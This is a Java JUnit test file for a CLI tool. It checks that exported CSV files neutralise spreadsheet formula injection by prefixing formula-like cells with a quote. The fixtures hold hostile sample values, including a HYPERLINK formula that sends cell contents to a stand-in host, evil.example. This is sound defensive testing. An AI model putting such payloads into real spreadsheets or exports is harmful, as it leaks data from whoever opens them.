package org.admap.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Ids and prompts that a spreadsheet would run as a formula ({@code =}, {@code +}, {@code -},
 * {@code @}, a tab, a CR first) are written with a leading {@code '} into map.csv (the scan
 * and the full ingest alike, byte for byte), flags.csv and flips.csv; numbers never are;
 * {@code --csv-raw} writes the texts as they are.
 */
class CsvInjectionTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String[] PROMPTS = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1",
        "-2+3 and more", "@SUM(A1:A9)", "\tTab first", "\rCR first"};
    private static final String[] IDS = {"=id0", "+id1", "-1", "@id3", "\tid4", "\rid5"};

    @TempDir
    Path tmp;

    /** Hostile items first, whose labels run against their scores (so they are flagged); scores below zero. */
    private Path data() throws Exception {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < 40; i++) {
            boolean hostile = i < PROMPTS.length;
            ObjectNode row = JSON.createObjectNode();
            row.put("id", hostile ? IDS[i] : "q" + i);
            row.put("prompt", hostile ? PROMPTS[i] : "question " + i);
            ArrayNode responses = row.putArray("responses");
            for (int k = 0; k < 4; k++) {
                responses.addObject().put("text", "answer " + k).put("score", k - 2 + (i % 3) * 0.25)
                        .put("label", hostile ? 3 - k : k);
            }
            sb.append(JSON.writeValueAsString(row)).append('\n');
        }
        Path data = tmp.resolve("hostile.jsonl");
        Files.writeString(data, sb);
        return data;
    }

    private static List<CSVRecord> records(Path csv) throws Exception {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(Files.readString(csv))).getRecords();
    }

    private static Cli.Result ok(String... args) {
        Cli.Result r = Cli.run(args);
        assertThat(r.exit()).as(r.toString()).isZero();
        return r;
    }

    @Test
    void mapCsvNeutralisesFormulaCellsAlikeOnTheScanAndTheFullIngest() throws Exception {
        Path data = data();
        Path scanned = tmp.resolve("scan");
        Path full = tmp.resolve("full");
        ok("map", data.toString(), "--out", scanned.toString(), "-q");
        ok("map", data.toString(), "--out", full.toString(), "-q", "--full-ingest");
        assertThat(scanned.resolve("store.pending.json")).as("the scan took the input").isRegularFile();
        assertThat(Files.mismatch(scanned.resolve("map.csv"), full.resolve("map.csv"))).isEqualTo(-1);

        List<CSVRecord> rows = records(full.resolve("map.csv"));
        for (int i = 0; i < PROMPTS.length; i++) {
            assertThat(rows.get(i).get("id")).isEqualTo("'" + IDS[i]);
            assertThat(rows.get(i).get("prompt")).isEqualTo("'" + PROMPTS[i]);
        }
        assertThat(rows.get(6).get("id")).isEqualTo("q6");
        assertThat(rows.get(6).get("prompt")).isEqualTo("question 6");
        // numbers stay numbers, negative ones included
        assertThat(rows.get(0).get("mean")).isEqualTo("-0.5");
        assertThat(Files.readString(full.resolve("map.csv"))).contains(",-0.5,").doesNotContain("'-0.5");

        // rebuilding the map from the store writes the same bytes
        byte[] before = Files.readAllBytes(full.resolve("map.csv"));
        ok("map", full.toString(), "-q");
        assertThat(Files.readAllBytes(full.resolve("map.csv"))).isEqualTo(before);
    }

    @Test
    void csvRawWritesTheTextsAsTheyAreOnBothPaths() throws Exception {
        Path data = data();
        Path scanned = tmp.resolve("scan");
        Path full = tmp.resolve("full");
        ok("map", data.toString(), "--out", scanned.toString(), "-q", "--csv-raw");
        ok("map", data.toString(), "--out", full.toString(), "-q", "--full-ingest", "--csv-raw");
        assertThat(Files.mismatch(scanned.resolve("map.csv"), full.resolve("map.csv"))).isEqualTo(-1);
        List<CSVRecord> rows = records(full.resolve("map.csv"));
        for (int i = 0; i < PROMPTS.length; i++) {
            assertThat(rows.get(i).get("id")).isEqualTo(IDS[i]);
            assertThat(rows.get(i).get("prompt")).isEqualTo(PROMPTS[i]);
        }
        ok("diagnose", full.toString(), "--csv-raw");
        assertThat(records(full.resolve("flags.csv")).get(0).get("id")).isEqualTo(IDS[0]);
    }

    @Test
    void flagsCsvAndFlipsCsvNeutraliseIdsAndPromptsOnTheStoreAndOnTheColumns() throws Exception {
        Path data = data();
        Path onColumns = tmp.resolve("columns");
        ok("map", data.toString(), "--out", onColumns.toString(), "-q");
        ok("diagnose", onColumns.toString(), "--on-columns");
        Path full = tmp.resolve("full");
        ok("map", data.toString(), "--out", full.toString(), "-q", "--full-ingest");
        ok("diagnose", full.toString(), "--inject-flips", "20", "--seed", "3");

        for (Path run : new Path[] {onColumns, full}) {
            List<CSVRecord> flags = records(run.resolve("flags.csv"));
            List<String> ids = new ArrayList<>();
            flags.forEach(r -> ids.add(r.get("id")));
            assertThat(ids).as(run.toString()).contains("'=id0", "'+id1", "'-1", "'@id3");
            CSVRecord first = flags.get(0);
            assertThat(first.get("prompt")).startsWith("'=HYPERLINK");
            assertThat(first.get("mean")).isEqualTo("-0.5");
            for (CSVRecord r : flags) {
                for (String cell : r) {
                    assertThat(cell.isEmpty() || "=+@\t\r".indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
                }
            }
        }
        for (CSVRecord r : records(full.resolve("flips.csv"))) {
            String id = r.get("id");
            assertThat("=+-@\t\r".indexOf(id.charAt(0))).as(id).isNegative();
        }
        assertThat(records(full.resolve("flips.csv"))).extracting(r -> r.get("id")).contains("'=id0", "'-1");
    }
}
